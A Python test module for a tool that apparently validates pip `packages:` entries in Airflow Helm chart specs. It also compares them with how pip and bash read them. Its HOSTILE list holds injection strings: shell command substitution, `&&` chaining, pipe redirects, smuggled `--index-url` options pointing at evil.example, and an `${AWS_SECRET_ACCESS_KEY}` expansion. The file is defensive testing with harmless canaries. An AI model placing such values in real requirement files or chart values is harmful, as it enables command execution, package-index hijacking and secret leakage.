"""Hostile `packages:` entries, and how pip itself reads a requirements file back.

Each entry is named pNN so that none collides with another (AS209). A payload that ran would call the
command `canary` or write the file `pwned`; the tests put a recording `canary` on PATH and look for both.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from airflowspec.diagnostics import quote

HOSTILE = (
    "p00 @ https://e.com/a'$(canary)'b",
    "p01 @ https://e.com/a'&&canary&&'b",
    'p02; os_name == "$(canary)"',
    'p03; os_name == "`canary`"',
    'p04; os_name == "a;canary;b"',
    'p05; os_name == "a&&canary&&b"',
    "p06\n--extra-index-url https://evil.example/simple",
    "p07; python_version < '3' \\",
    "p08; os_name == 'a #b'",
    "p09 @ https://e.com/${AWS_SECRET_ACCESS_KEY}",
    "-e .",
    "--index-url=https://evil.example/simple",
    "p12\r",
    "p13\u2028--index-url=https://evil.example/simple",
    "p14\x00",
    "p15; os_name == 'x --index-url=https://evil.example/simple'",
    "p16 @ https://e.com/a;python_version<'3'",
    "p17.whl",
    "p18 @ https://e.com/a$$b",
    'p19; os_name == "a\'b"',
    "p20; python_version >= '3.8'",
    'p21; os_name == "a$b"',
    "p22 @ https://e.com/x?a=*&b=[1]#egg=p22",
    " p23 [x] >= 1 , < 2 ",
    'p24; os_name == "-e"',
    'p25; os_name == "a#b"',
    'p26; os_name == "é🚀"',
    'p27; os_name == "a\tb"',
    "p28\x85",
    'p29; os_name == "$HOME"',
    'p30; os_name == "a|canary>pwned"',
    "p31 >= 1.0",
    "p32 @ https://e.com/x[a]",
    "p33 @ https://e.com/[a]/.",
)
#: The diagnostics of a spec holding all of HOSTILE from line 6 (column 5), by line, for each way a
#: chart carries packages, written by hand: (Airflow version, targets block, expected).
CODES = {"AS207", "AS220", "AS221", "AS327", "AS340"}
K8S = (
    "would not reach pip as written: Kubernetes replaces '$(NAME)' with a variable of the container and '$$' "
    "with '$'; write the value itself; a package cannot hold '$(' or '$$'"
)
OPTION = (
    "would not reach pip as written: pip reads a word starting with '-' as an option (-e, -r, --index-url...), "
    "not as a requirement; give one PEP 508 requirement; index and install options are not packages"
)
#: Where airflowspec's own escaping of a control character shows (NUL, \x85), `quote` writes it.
UNPRINTABLE = (
    "would not reach pip as written: it holds the unprintable character {}; pip, YAML and shells may end or "
    "split a line there; a package is one line of printable text"
)
EXTRAS = (
    "would not reach pip as written: pip reads a '[...]' at the end of a URL as extras; write '[' and ']' in the "
    "URL as %5B and %5D"
)
ECHO = (
    "cannot be carried by community chart 8.9.0: it writes each package as `echo '<package>'` in a shell script, "
    "where a single quote ends the quoting; write a single quote in a URL as %27; on this chart a marker string "
    "cannot hold one"
)
DOUBLE = (
    'cannot be carried by community chart 8.3.0: it writes each package as `pip install "<package>"` in a shell '
    "script, where bash expands '$' and '`'; write '$' in a URL as %24 and '`' as %60; on this chart a marker "
    "string cannot hold them"
)
UNQUOTED = (
    "would change in the image's unquoted `pip install $_PIP_ADDITIONAL_REQUIREMENTS`: bash splits it at "
    "whitespace and expands glob patterns ('*', '?', '[', '@(') to file names; bake it into an image "
    "(`targets.eks.image`)"
)
EVERY_TARGET = {
    6: f"AS220 'p00 @ https://e.com/a'$(canary)'b' {K8S}",
    8: f"AS220 'p02; os_name == \"$(canary)\"' {K8S}",
    12: "AS220 'p06\\n--extra-index-url https://evil.example/simple' " + UNPRINTABLE.format("U+000A"),
    13: "AS220 'p07; python_version < '3' \\' would not reach pip as written: pip joins a line ending in '\\' "
    "with the next one, and shells read '\\' as an escape; remove the backslash",
    14: "AS220 'p08; os_name == 'a #b'' would not reach pip as written: pip reads ' #' as the start of a comment "
    "and drops the rest of the line; remove the whitespace before '#'",
    15: "AS220 'p09 @ https://e.com/${AWS_SECRET_ACCESS_KEY}' would not reach pip as written: pip replaces "
    "'${NAME}' with an environment variable of the machine that installs; write the value itself; a package "
    "cannot hold '${'",
    16: f"AS220 '-e .' {OPTION}",
    17: f"AS220 '--index-url=https://evil.example/simple' {OPTION}",
    18: "AS220 'p12\\r' " + UNPRINTABLE.format("U+000D"),
    19: "AS220 'p13\\u2028--index-url=https://evil.example/simple' " + UNPRINTABLE.format("U+2028"),
    20: "AS220 " + quote("p14\x00") + " " + UNPRINTABLE.format("U+0000"),
    21: f"AS220 'p15; os_name == 'x --index-url=https://evil.example/simple'' {OPTION}",
    22: "AS221 'p16 @ https://e.com/a;python_version<'3'' would not reach pip as written: pip cuts a requirement "
    "at its first ';' to find the marker, here inside the URL; write ';' as %3B",
    23: "AS221 'p17.whl' would not reach pip as written: pip reads a bare name ending in an archive extension as "
    "a local file; add a version, e.g. `p17.whl>=0`",
    24: f"AS220 'p18 @ https://e.com/a$$b' {K8S}",
    33: "AS220 'p27; os_name == \"a\\tb\"' " + UNPRINTABLE.format("U+0009"),
    34: "AS220 " + quote("p28\x85") + " " + UNPRINTABLE.format("U+0085"),
    38: f"AS221 'p32 @ https://e.com/x[a]' {EXTRAS}",
    39: f"AS221 'p33 @ https://e.com/[a]/.' {EXTRAS}",
}
COMMUNITY_8_9 = {
    **EVERY_TARGET,
    7: f"AS327 'p01 @ https://e.com/a'&&canary&&'b' {ECHO}",
    25: f"AS327 'p19; os_name == \"a'b\"' {ECHO}",
}
COMMUNITY_8_3 = {
    **EVERY_TARGET,
    9: f"AS327 'p03; os_name == \"`canary`\"' {DOUBLE}",
    27: f"AS327 'p21; os_name == \"a$b\"' {DOUBLE}",
    35: f"AS327 'p29; os_name == \"$HOME\"' {DOUBLE}",
}
OFFICIAL = {
    **EVERY_TARGET,
    **{line: f"AS340 '{HOSTILE[line - 6]}' {UNQUOTED}" for line in (7, 9, 10, 11, 25, 26, 27, 28, 29, 30, 31, 32)},
    35: f"AS340 'p29; os_name == \"$HOME\"' {UNQUOTED}",
    36: f"AS340 'p30; os_name == \"a|canary>pwned\"' {UNQUOTED}",
    37: "AS340 'p31 >= 1.0' would change in the image's unquoted `pip install $_PIP_ADDITIONAL_REQUIREMENTS`: bash "
    "splits it at whitespace and expands glob patterns ('*', '?', '[', '@(') to file names; write it as `p31>=1.0`",
}
VIEWS = {
    "community-8.9.0": ("2.8.4", "targets:\n  eks: {chart: community}\n", COMMUNITY_8_9),
    "community-8.3.0": ("2.1.4", "targets:\n  eks: {chart: community, chartVersion: 8.3.0}\n", COMMUNITY_8_3),
    "official": ("3.1.8", "targets:\n  eks: {chart: official, pipInstallAtStart: true}\n", OFFICIAL),
}
SECRET_ENVIRONMENT = {"AWS_SECRET_ACCESS_KEY": "CANARY-SECRET", "HOME": "CANARY-HOME"}


def yaml_quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar: printable characters as they are, the others escaped."""
    escaped = {'"': '\\"', "\\": "\\\\"}
    return '"' + "".join(escaped.get(c, c) if c.isprintable() else f"\\u{ord(c):04x}" for c in text) + '"'


def packages_yaml(packages: tuple[str, ...] | list[str]) -> str:
    """A `packages:` block, one double-quoted entry a line, from line 6 of a spec."""
    return "packages:\n" + "".join(f"  - {yaml_quoted(package)}\n" for package in packages)


def spec_text(
    packages: tuple[str, ...] | list[str], airflow_version: str, targets: str, executor: str = "CeleryExecutor"
) -> str:
    """A spec whose packages start at line 6."""
    head = f'apiVersion: airflowspec/v1\nname: demo\nairflow: {{version: "{airflow_version}", executor: {executor}}}\n'
    return head + "# hostile packages, one a line\n" + packages_yaml(packages) + targets


def meaning(requirement: str) -> tuple[object, ...]:
    """What a requirement asks for, comparable between packaging and pip's vendored copy of it."""
    parsed = Requirement(requirement)
    marker = str(parsed.marker) if parsed.marker else None
    return canonicalize_name(parsed.name), sorted(parsed.extras), str(parsed.specifier), parsed.url, marker


def pip_reads(path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[list[tuple[object, ...]], list[str]]:
    """(requirements, option lines) as pip's own requirements-file parser reads `path`, with secrets in the
    environment so that any `${NAME}` expansion would show. Nested files are not followed."""
    req_file = pytest.importorskip("pip._internal.req.req_file")
    constructors = pytest.importorskip("pip._internal.req.constructors")
    from pip._internal.network.session import PipSession

    for name, value in SECRET_ENVIRONMENT.items():  # HOME inside the test's folder: pip makes its cache there
        monkeypatch.setenv(name, str(path.parent / value) if name == "HOME" else value)
    _, content = req_file.get_file_content(str(path), PipSession())
    line_parser = req_file.get_line_parser(None)
    requirements, options = [], []
    for number, line in req_file.preprocess(content):
        args, opts = line_parser(line)
        parsed = req_file.handle_line(req_file.ParsedLine(str(path), number, args, opts, False))
        if parsed is None:
            options.append(line)
            continue
        assert not parsed.is_editable and not parsed.options, line
        installed = constructors.install_req_from_parsed_requirement(parsed)
        marker = str(installed.markers) if installed.markers else None
        name, _, specifier, url, in_req = meaning(str(installed.req))
        assert in_req is None, line
        requirements.append((name, sorted(installed.extras), specifier, url, marker))
    return requirements, options


def kubernetes_expand(text: str, env: dict[str, str]) -> str:
    """What the kubelet does to container args: `$(NAME)` of a defined variable replaced, `$$` -> `$`."""

    def replace(match: re.Match[str]) -> str:
        if match.group() == "$$":
            return "$"
        return env.get(match.group(1), match.group())

    return re.sub(r"\$\$|\$\(([^)]*)\)", replace, text)


def run_bash(
    script: str, scratch: Path, variables: dict[str, str] | None = None
) -> tuple[Path, dict[str, list[list[str]]], str]:
    """Run `script` under bash in `scratch/work`, with `pip`, `rsync`, `cp` and `canary` on PATH that only
    record their arguments (`pip freeze` also prints Airflow's pin, as the chart's grep needs). Returns the
    work folder, each recorder's calls, and what went wrong (empty when bash exited 0)."""
    work, home, bin_dir, logs = (scratch / name for name in ("work", "home", "bin", "logs"))
    for folder in (work, home, bin_dir, logs):
        folder.mkdir(parents=True)
    for command in ("pip", "rsync", "cp", "canary"):
        recorder = bin_dir / command
        recorder.write_text(
            f"#!{sys.executable}\nimport json, sys\n"
            f"with open({str(logs / command)!r}, 'a') as log:\n    log.write(json.dumps(sys.argv[1:]) + '\\n')\n"
            "if sys.argv[1:] == ['freeze']:\n    print('apache-airflow==2.8.4')\n"
        )
        recorder.chmod(0o755)
    environment = {"PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": str(home), "LC_ALL": "C.UTF-8", **(variables or {})}
    result = subprocess.run(
        ["bash", "-c", script], cwd=work, env=environment, capture_output=True, text=True, timeout=120, check=False
    )
    calls = {
        log.name: [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()] for log in logs.iterdir()
    }
    return work, calls, "" if result.returncode == 0 else f"exit {result.returncode}: {result.stderr}"
